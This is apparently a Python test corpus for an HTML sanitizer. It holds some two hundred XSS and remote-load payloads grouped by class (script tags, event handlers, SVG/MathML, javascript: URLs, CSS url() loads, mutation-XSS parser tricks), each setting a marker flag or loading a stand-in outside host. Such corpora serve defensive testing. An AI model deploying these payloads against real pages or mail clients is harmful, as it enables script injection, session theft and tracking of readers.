"""What has been tried to make a page run what a stranger wrote, by class. `RUN` marks a script that ran.

Sources: the classes of A20 in the proofs, the published advisories that it names, the mXSS literature (Heiderich 2013,
Bentkowski 2020), and what mail programs were broken by. OUT is an address that nobody may ask for.
"""

RUN = "window.top.__ran=1;window.__ran=1"
OUT = "https://outside.invalid/x"

SCRIPTS = [
    f"<script>{RUN}</script>", f"<SCRIPT SRC={OUT}.js></SCRIPT>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x20type=text/javascript>{RUN}</script>", f"<script\x09>{RUN}</script>", f"<script/x>{RUN}</script>",
    f"<<script>{RUN}//<</script>", f"<script>{RUN}", f"</title><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"<!--><script>{RUN}</script>-->", f"<![CDATA[<script>{RUN}</script>]]>",
    f"<script\x00>{RUN}</script>", f"<scr\x00ipt>{RUN}</scr\x00ipt>", f"<script async defer type=module>{RUN}</script>",
]  # fmt: skip
HANDLERS = [
    *(f"<{tag} {event}=\"{RUN}\">x</{tag}>" for tag, event in [
        ("div", "onmouseover"), ("body", "onload"), ("details open", "ontoggle"), ("marquee", "onstart"),
        ("p", "onanimationstart"), ("select autofocus", "onfocus"), ("button autofocus", "onfocus"),
        ("div contenteditable autofocus", "onfocus"), ("a href=#x", "onclick"), ("form", "onsubmit"),
        ("div popover", "onbeforetoggle"), ("p style='content-visibility:auto'", "oncontentvisibilityautostatechange"),
    ]),
    *(f"<{tag} src=x {event}={RUN}>" for tag, event in [
        ("img", "onerror"), ("img", "onload"), ("input type=image", "onerror"), ("video", "onerror"),
        ("audio", "onerror"), ("embed", "onload"), ("iframe", "onload"), ("frame", "onload"), ("script", "onerror"),
    ]),
    f"<img/src=x/onerror={RUN}>", f"<img src=x\nonerror\n=\n{RUN}>", f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img src='x' \x0conerror={RUN}>", "<img src=x onerror=\"&#119;indow.__ran=1\">", f"<img src=`x`onerror={RUN}>",
    f"<img title=\"</p><img src=x onerror={RUN}>\">", f"<body onpageshow={RUN}>", f"<img src=x oneonerrorrror={RUN}>",
    f"<video><source onerror={RUN}></video>", f"<object data=x onerror={RUN}></object>", f"<style onload={RUN}></style>",
]  # fmt: skip
FOREIGN = [
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text y=9>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x\">",
    f"<svg><set attributeName=onmouseover to={RUN}>", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject>",
    f"<svg><image href={OUT}.png></image></svg>", f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">", f"<svg><desc><img src=x onerror={RUN}></desc></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math><mi//xlink:href=\"data:x,<script>{RUN}</script>\">", f"<math href=\"javascript:{RUN}\">CLICK</math>",
    f"<math><annotation-xml encoding=\"text/html\"><img src=x onerror={RUN}></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='{RUN}'>\">",
]  # fmt: skip
ADDRESSES = [
    *(f"<a href=\"{address}{RUN}\">x</a>" for address in [
        "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "java&#10;script:",
        "&#x6A;avascript:", "javascript&colon;", "\x01javascript:", "vbscript:", "jav&#x09;ascript:", "javascript://%0a",
        "feed:javascript:", "view-source:javascript:", "data:text/javascript,", "livescript:",
    ]),
    f"<a href=\"data:text/html,<script>{RUN}</script>\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    f"<img src=\"javascript:{RUN}\">", f"<img src=\"data:image/svg+xml,<svg onload={RUN}>\">",
    f"<td background=\"javascript:{RUN}\">", f"<blockquote cite=\"javascript:{RUN}\">x</blockquote>",
    f"<form action=\"javascript:{RUN}\"><button>x</button></form>", f"<button formaction=\"javascript:{RUN}\">x</button>",
    f"<iframe src=\"javascript:{RUN}\"></iframe>", f"<iframe srcdoc=\"<script>{RUN}</script>\"></iframe>",
    f"<embed src=\"javascript:{RUN}\">", f"<object data=\"data:text/html,<script>{RUN}</script>\"></object>",
    f"<area href=\"javascript:{RUN}\">", f"<isindex action=\"javascript:{RUN}\">", f"<a ping={OUT} href=#>x</a>",
]  # fmt: skip
DOCUMENT = [
    f"<meta http-equiv=refresh content=\"0;url={OUT}\">", f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    f"<base href=\"{OUT}/\"><img src=a.png>", f"<base href=\"javascript:{RUN}//\"><a href=1>x</a>",
    f"<link rel=stylesheet href={OUT}.css>", f"<link rel=prefetch href={OUT}>", f"<link rel=dns-prefetch href={OUT}>",
    f"<link rel=import href={OUT}>", f"<form action={OUT}><input name=a autofocus></form>", f"<iframe src={OUT}></iframe>",
    f"<frameset><frame src={OUT}></frameset>", f"<object data={OUT}></object>", f"<embed src={OUT}>",
    f"<applet code={OUT}></applet>", f"<html manifest={OUT}>", f"<portal src={OUT}></portal>", f"<fencedframe src={OUT}>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>", f"<xml><x:script>{RUN}</x:script></xml>",
    f"<meta charset=utf-7>+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"<plaintext><script>{RUN}</script>",
    f"<dialog open><form method=dialog action={OUT}></form></dialog>", f"<slot><script>{RUN}</script></slot>",
]  # fmt: skip
STYLES = [
    f"<style>@import url({OUT}.css);</style>", f"<style>@import '{OUT}.css';</style>",
    f"<style>*{{background:url({OUT}.png)}}</style>", f"<style>@font-face{{font-family:a;src:url({OUT})}}*{{font-family:a}}</style>",
    f"<p style=\"background:url({OUT})\">x</p>", f"<p style=\"background-image:u\\72l({OUT})\">x</p>",
    f"<p style=\"list-style:url('{OUT}') inside;display:list-item\">x</p>", f"<p style=\"border-image:url({OUT}) 1\">x</p>",
    f"<p style=\"content:url({OUT})\">x</p>", f"<p style=\"cursor:url({OUT}),auto\">x</p>",
    f"<p style=\"width:expression({RUN})\">x</p>", f"<p style=\"behavior:url({OUT})\">x</p>",
    f"<p style=\"-moz-binding:url({OUT})\">x</p>", f"<p style=\"background:image-set('{OUT}' 1x)\">x</p>",
    f"<p style=\"background:/**/url(/**/{OUT})\">x</p>", f"<p style=\"x:</p><img src=x onerror={RUN}>\">",
    f"<style><!--</style><script>{RUN}</script>-->", f"<style>a{{}}</style><style>/*</style><img src=x onerror={RUN}>*/</style>",
    f"<table background={OUT}><tr><td background={OUT}>x</td></tr></table>", f"<body background={OUT}>",
    "<div style=\"position:fixed;inset:0;z-index:99999;background:red\">cover</div>",
]  # fmt: skip
LOADS = [
    f"<img src={OUT}.gif>", f"<img srcset=\"{OUT}.png 1x, {OUT}2.png 2x\">", f"<picture><source srcset={OUT}><img></picture>",
    f"<video poster={OUT} src={OUT}></video>", f"<audio src={OUT} autoplay></audio>", f"<track src={OUT}>",
    "<img src=//outside.invalid/y.png>", "<img src=\"https:outside.invalid/y\">", f"<input type=image src={OUT}>",
    f"<img lowsrc={OUT} dynsrc={OUT}>", "<img src=http://outside.invalid/y width=1 height=1>", f"<bgsound src={OUT}>",
    f"<img loading=eager src=\"\n{OUT}\">", f"<img data-remote-src=\"{OUT}\" data-cid=\"x\" src=x>",
    "<img src=\"\\\\outside.invalid\\y.png\">", "<img src=\"/desk/\"><img src=\"x:y\">", "<img src=\"ftp://outside.invalid/z\">",
]  # fmt: skip
MUTATIONS = [
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<noembed><img alt=\"</noembed><img src=x onerror={RUN}>\">",
    f"<noframes><p title=\"</noframes><img src=x onerror={RUN}>\">", f"<xmp><p title=\"</xmp><img src=x onerror={RUN}>\">",
    f"<template><p title=\"</template><img src=x onerror={RUN}>\">", f"<textarea><a title=\"</textarea><img src=x onerror={RUN}>\">",
    f"<title><a title=\"</title><img src=x onerror={RUN}>\">", f"<select><style></select><img src=x onerror={RUN}>",
    f"<p><table><p><svg><style><!--</style><img src=x onerror={RUN}>--></table>", f"<div id=\"`&#x60;<img src=x onerror={RUN}>\">",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&amp;lt;img src=x onerror={RUN}&amp;gt;", f"&#60;img src=x onerror={RUN}&#62;",
    f"<a title='--><img src=x onerror={RUN}>'><!-- ", f"<!--[if gte mso 9]><script>{RUN}</script><![endif]-->",
    f"<!--[if true]><img src=x onerror={RUN}><![endif]-->", f"<?xml version='1.0'?><x onclick={RUN}>", f"<!DOCTYPE x [<!ENTITY a \"{RUN}\">]>&a;",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"\ufeff<script>{RUN}</script>", f"＜script＞{RUN}＜/script＞", f"<ſcript>{RUN}</ſcript>",
    f"<a href='x' title=\"\"onmouseover={RUN}\"\">x</a>", f"<o:p onload={RUN}></o:p>", f"<x:a xmlns:x=\"http://www.w3.org/1999/xhtml\" onload={RUN}>",
]  # fmt: skip

BY_CLASS = {
    "scripts": SCRIPTS, "handlers": HANDLERS, "foreign elements": FOREIGN, "addresses": ADDRESSES,
    "document": DOCUMENT, "styles": STYLES, "loads": LOADS, "mutations": MUTATIONS,
}  # fmt: skip
ALL = [vector for vectors in BY_CLASS.values() for vector in vectors]
